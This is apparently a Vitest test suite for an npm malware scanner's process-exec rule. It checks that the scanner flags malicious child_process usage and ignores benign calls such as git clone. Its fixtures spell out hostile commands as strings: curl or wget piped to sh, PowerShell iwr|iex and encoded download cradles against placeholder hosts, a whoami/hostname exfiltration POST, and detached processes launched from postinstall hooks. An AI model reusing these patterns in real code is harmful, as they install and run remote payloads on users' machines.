import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostInfo, expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'process-exec';

describe('process-exec reports', () => {
  test('execSync("curl ... | sh") in a postinstall file is critical and malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node install.js' } }),
      'install.js': "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://payload.invalid/s.sh | sh', { stdio: 'ignore' });",
    });
    expect(r.of(RULE)).toEqual([finding('critical', ['exec', 'exec:shell-download'], { reach: 'install', line: 2 })]);
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(95);
  });

  test.each([
    ['a command assembled with [].join', "const cp = require('child_process');\nconst tool = ['cu', 'rl'].join('');\ncp.exec(tool + ' -s https://payload.invalid/x | bash');"],
    ["spawn('sh', ['-c', ...])", "const { spawn } = require('node:child_process');\nspawn('sh', ['-c', 'wget -qO- https://payload.invalid/a | sh']);"],
    ['a platform branch assigned to a let', "const cp = require('child_process');\nlet cmd;\nif (process.platform === 'win32') cmd = 'powershell -c \"iwr https://payload.invalid/p.ps1 | iex\"';\nelse cmd = 'echo ok';\ncp.exec(cmd);"],
    ['ESM import { exec as run }', "import { exec as run } from 'node:child_process';\nrun('wget https://payload.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x');"],
    ['process.mainModule.require', "const m = process.mainModule.require('child_process');\nm.execSync('curl https://payload.invalid/y | sh');"],
    ['a base64-decoded command', "const cp = require('child_process');\ncp.execSync(Buffer.from('Y3VybCAtcyBodHRwczovL3BheWxvYWQuaW52YWxpZC94IHwgc2g=', 'base64').toString());"],
  ])('a download-and-execute through %s is critical and malicious', (_label, code) => {
    const file = code.startsWith('import') ? 'index.mjs' : 'index.js';
    const r = scanFiles({ 'package.json': manifest({ main: file }), [file]: code });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['exec', 'exec:shell-download']));
    expect(r.verdict).toBe('malicious');
  });

  test('a shell command that sends whoami/hostname out is critical recon', () => {
    const r = scanFiles({ 'index.js': "const { exec } = require('child_process');\nexec('curl -s -X POST -d \"$(whoami):$(hostname)\" https://collector.invalid/r');" });
    expect(r.of(RULE)).toEqual([finding('critical', ['exec', 'exec:shell-recon'])]);
    expect(r.verdict).toBe('malicious');
  });

  test('a detached, silent, unref-ed process started at install is high and malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node postinstall.js' } }),
      'postinstall.js': "const { spawn } = require('child_process');\nconst path = require('path');\nconst child = spawn(process.execPath, [path.join(__dirname, 'lib', 'agent.js')], { detached: true, stdio: 'ignore' });\nchild.unref();",
      'lib/agent.js': 'setInterval(() => {}, 1000);',
    });
    expect(r.of(RULE)).toEqual([finding('high', ['exec', 'exec:detached'], { reach: 'install' })]);
    expect(r.verdict).toBe('malicious');
  });

  test('a bundled .exe started detached at install is high with the bundled-binary signal', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node run.js' } }),
      'run.js': "const { execFile } = require('child_process');\nconst path = require('path');\nexecFile(path.join(__dirname, 'bin', 'helper.exe'), [], { detached: true, stdio: 'ignore' }).unref();",
    });
    expect(r.of(RULE)).toEqual([finding('high', ['exec:detached', 'exec:bundled-binary'])]);
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(88);
  });

  test('running a bundled .exe in the foreground is medium', () => {
    const r = scanFiles({ 'index.js': "const cp = require('child_process');\ncp.execFileSync(__dirname + '/vendor/update.exe');" });
    expect(r.of(RULE)).toEqual([finding('medium', ['exec', 'exec:bundled-binary'], { message: expect.stringContaining('update.exe') })]);
  });

  test('a download hidden in the win32 branch of a ternary is found', () => {
    const r = scanFiles({ 'index.js': "const cp = require('child_process');\ncp.exec(process.platform === 'win32' ? 'powershell -c \"iwr https://payload.invalid/p.ps1 | iex\"' : 'true');" });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
  });

  test('a command looked up in a constant object table is folded', () => {
    const r = scanFiles({ 'index.js': "const cp = require('child_process');\nconst CMDS = { nix: 'curl -s https://payload.invalid/x | sh' };\ncp.exec(CMDS.nix);" });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
  });

  test('child_process assigned after a bare declaration is still resolved', () => {
    const r = scanFiles({ 'index.js': "var c;\nc = require('child_process');\nc.exec('curl -s https://payload.invalid/x | sh');" });
    expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
  });

  test('execa starting a detached silent process at install is seen', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': "const execa = require('execa');\nexeca('node', ['agent.js'], { detached: true, stdio: 'ignore' }).unref();",
    });
    expect(r.of(RULE)).toContainEqual(finding('high', ['exec:detached']));
  });
});

describe('process-exec stays quiet', () => {
  test('a CLI that clones with git and its arguments is one info note', () => {
    const r = scanFiles({
      'index.js': "const { spawn } = require('child_process');\nmodule.exports = function clone(repo, dir) {\n  return new Promise((resolve, reject) => {\n    const child = spawn('git', ['clone', '--depth', '1', repo, dir], { stdio: 'inherit' });\n    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error('git exited with ' + code))));\n  });\n};",
    });
    expect(r.of(RULE)).toEqual([finding('info', ['exec'], { message: expect.stringContaining('git clone') })]);
    expect(r.verdict).toBe('clean');
  });

  test('spawn(cmd, args, { env: { ...process.env, X: 1 } })', () => {
    const r = scanFiles({ 'index.js': "const { spawn } = require('child_process');\nmodule.exports = (cmd, args) => spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: '1' }, stdio: 'inherit' });" });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('execSync("git rev-parse HEAD") and a forked worker', () => {
    const r = scanFiles({
      'index.js': "const { execSync, fork } = require('child_process');\nconst path = require('path');\nexports.rev = () => execSync('git rev-parse HEAD', { encoding: 'utf8' }).trim();\nexports.worker = () => fork(path.join(__dirname, 'worker.js'));",
      'worker.js': "process.on('message', (m) => process.send(m));",
    });
    expectAtMostInfo(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('the same callee used twice in a file is noted once', () => {
    const r = scanFiles({ 'index.js': "const { spawn } = require('child_process');\nexports.a = () => spawn('git', ['status']);\nexports.b = () => spawn('git', ['log']);" });
    expect(r.of(RULE)).toHaveLength(1);
  });

  test('a shadowing local named cp is not child_process', () => {
    const r = scanFiles({ 'index.js': "const cp = require('child_process');\nexports.copy = function () { const cp = { exec: (s) => s }; return cp.exec('curl -s https://example.invalid/x | sh'); };" });
    expect(r.of(RULE)).toEqual([]);
  });

  test('opening a URL in the desktop browser is not a detached implant', () => {
    const r = scanFiles({
      'index.js': "const cp = require('child_process');\nmodule.exports = (url) => {\n  const cmd = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'start' : 'xdg-open';\n  return cp.spawn(cmd, [url], { detached: true, stdio: 'ignore' }).unref();\n};",
    });
    expectAtMostLow(r.of(RULE));
  });
});

describe('process-exec lexical scan of a file that cannot be parsed', () => {
  // A MIME table names the `irm` extension; far below, unrelated code says `iex`. The download
  // cradle pattern must not join them across the file.
  const table = ['const types = {', '  "application/vnd.example.rights": ["irm"],', ...Array.from({ length: 40 }, (_, i) => `  "application/x-example-${i}": ["ex${i}"],`), '};', 'const iex = 1;', 'function broken( {'].join('\n');
  test('words of a table and a name far apart are not a download cradle', () => {
    const r = scanFiles({ 'index.js': table });
    expect(r.of('process-exec')).toEqual([]);
  });
  test('twin: a PowerShell download cradle in a file that cannot be parsed is caught', () => {
    const r = scanFiles({ 'index.js': "const cmd = 'powershell -c \"iwr https://payload.invalid/a.ps1 | iex\"';\nfunction broken( {" });
    expect(r.of('process-exec')[0]?.signals).toContain('exec:shell-download');
  });
});

describe('process-exec judges what a download-and-run command is for', () => {
  const b64 = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
  test('an encoded PowerShell script that fetches nothing is medium, with the script shown', () => {
    const script = "$ErrorActionPreference = 'Stop'\nAdd-Type -AssemblyName System.Security\n[Console]::Out.Write('stored')";
    const r = scanFiles({ 'index.js': `const { execFileSync } = require('child_process');\nmodule.exports = () => execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', '${b64(script)}']);` });
    expect(r.of(RULE)[0]).toMatchObject({ severity: 'medium', signals: ['exec'] });
    expect(r.of(RULE)[0]?.message).toContain('Add-Type');
  });
  test('twin: an encoded download cradle is critical', () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('https://payload.invalid/a.ps1')";
    const r = scanFiles({ 'index.js': `const { execFileSync } = require('child_process');\nexecFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', '${b64(script)}']);` });
    expect(r.of(RULE)[0]).toMatchObject({ severity: 'critical', signals: ['exec', 'exec:shell-download'] });
    expect(r.verdict).toBe('malicious');
  });
  test("a bin's self-update command (curl | sh from the vendor) is high, not a malicious chain", () => {
    const r = scanFiles({
      'package.json': manifest({ bin: { tool: 'cli.js' } }),
      'cli.js': "const cp = require('child_process');\nfunction update() { cp.execSync('curl -sfS https://tool.invalid/install.sh | sh', { stdio: 'inherit' }); }\nif (process.argv[2] === 'update') update();",
    });
    expect(r.of(RULE)[0]).toMatchObject({ severity: 'high', signals: ['exec'], reach: 'bin' });
    expect(r.verdict).not.toBe('malicious');
  });
  test('twin: the same command run when the package is imported is critical and malicious', () => {
    const r = scanFiles({ 'index.js': "const cp = require('child_process');\ncp.execSync('curl -sfS https://tool.invalid/install.sh | sh', { stdio: 'inherit' });" });
    expect(r.of(RULE)[0]).toMatchObject({ severity: 'critical', signals: ['exec', 'exec:shell-download'], reach: 'import' });
    expect(r.verdict).toBe('malicious');
  });
});
